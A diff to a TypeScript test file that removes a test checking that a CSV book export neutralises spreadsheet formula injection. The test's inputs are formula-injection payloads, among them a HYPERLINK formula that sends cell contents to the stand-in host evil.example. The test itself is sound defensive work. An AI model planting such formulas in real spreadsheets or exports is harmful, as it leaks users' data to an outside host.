@@ -127,30 +127,3 @@ it.skipIf(!hasPackages)(
     expect(await post(event, {})).toBe(400);
   },
 );
-
-it.skipIf(!hasPackages)('exports.md writes no formula of a user into a cell', async () => {
-  const titles = [
-    '=1+1',
-    '+1',
-    '-1',
-    '@SUM(A1)',
-    '\t=1',
-    ' =1',
-    '\r=1',
-    '＝1',
-    'a=1',
-    '=HYPERLINK("http://evil.example/"&A1,"x")',
-  ];
-  // The page tells readers to replace this file.
-  const change = (files: Record<string, string>): Record<string, string> => ({
-    ...files,
-    'app/books.ts': `export async function* readBooks() { for (const title of ${JSON.stringify(titles)}) yield { id: -1, title }; }`,
-  });
-  const { url } = await serve('exports.md', { change });
-  const response = await fetch(`${url}/books.csv`);
-  expect(response.headers.get('Content-Disposition')).toBe('attachment; filename="books.csv"');
-  const [, ...lines] = (await response.text()).trimEnd().split('\n');
-  expect(lines).toHaveLength(titles.length);
-  const cells = lines.map((line) => /^-1,"?(.*)/.exec(line)![1]!);
-  expect(cells.filter((cell) => !cell.startsWith("'"))).toEqual(['a=1']);
-});
